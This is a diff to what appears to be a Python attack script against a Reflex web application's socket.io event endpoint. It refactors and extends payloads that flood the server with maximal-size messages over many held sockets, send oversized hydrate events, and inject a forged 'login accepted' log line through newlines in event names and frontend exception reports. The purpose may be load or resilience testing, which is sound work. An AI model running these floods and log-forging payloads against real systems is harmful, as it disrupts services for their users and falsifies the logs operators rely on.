@@ -28,6 +28,8 @@ LARGEST = 60_000  # bytes of a message, just below what the server takes
 _NAMESPACE = "/_event"
 # A condition that never holds, over as many names as fit: the validator has to try every combination to know.
 _NEVER = "turns > 1 and here > 2 and minutes > 3 and score > 4 and confidence > 2 and open and answered and complete"
+_STATE = "reflex___state____state"
+_REPORT = f"{_STATE}.reflex___state____frontend_event_exception_state.handle_frontend_exception"
 _FORGED = "\n2026-01-01 00:00:00 [info] FORGED login accepted"
 
 
@@ -111,11 +113,9 @@ class Attack:
     async def _sockets(self) -> None:
         async with self._client() as client:
             cookie = await _page_cookie(client)
-        event = {
-            "name": "reflex___state____state.hydrate",
-            "payload": {},
-            "router_data": {"pathname": "/login", "asPath": f"/login?{'a' * LARGEST}", "query": {}},
-        }
+        # One as large as is taken, which makes a state; and one that is larger.
+        event = _event(f"{_STATE}.hydrate_and_load", "a" * 1900, hashes=["b" * (LARGEST - 5000)])
+        larger = _event(f"{_STATE}.hydrate_and_load", "a" * LARGEST)
 
         async def one(number: int) -> None:
             await asyncio.sleep(self._target.seconds / 3 * number / SOCKETS)
@@ -123,6 +123,7 @@ class Attack:
                 while socket is not None and socket.connected and self._going_on:
                     with contextlib.suppress(SocketIOError):
                         await socket.emit("event", event, namespace=_NAMESPACE)
+                        await socket.emit("event", larger, namespace=_NAMESPACE)
                     await asyncio.sleep(2)
                 if socket is not None:
                     self.counts["sockets"]["held to the end" if socket.connected else "put out"] += 1
@@ -162,11 +163,7 @@ class Attack:
         events: tuple[Any, ...] = (
             "x" * LARGEST,
             {"name": f"unknown.handler{_FORGED}", "payload": {"text": "x" * LARGEST}, "router_data": {}},
-            {
-                "name": "reflex___state____frontend_event_exception_state.handle_frontend_exception",
-                "payload": {"info": _FORGED + "x" * (LARGEST // 2), "component_stack": "x" * (LARGEST // 3)},
-                "router_data": {"pathname": "/login", "asPath": "/login", "query": {}},
-            },
+            _event(_REPORT, "", info=_FORGED + "x" * (LARGEST // 2), component_stack="x" * (LARGEST // 3)),
         )
 
         async def one(number: int) -> None:
@@ -219,6 +216,11 @@ class Attack:
         if answer.status_code == 429:
             await asyncio.sleep(0.2)
         return answer
+
+
+def _event(name: str, query: str, **payload: Any) -> dict[str, Any]:
+    place = {"pathname": "/login", "asPath": f"/login?{query}", "query": {}}
+    return {"name": name, "payload": payload, "router_data": place}
 
 
 async def _page_cookie(client: httpx.AsyncClient) -> str:
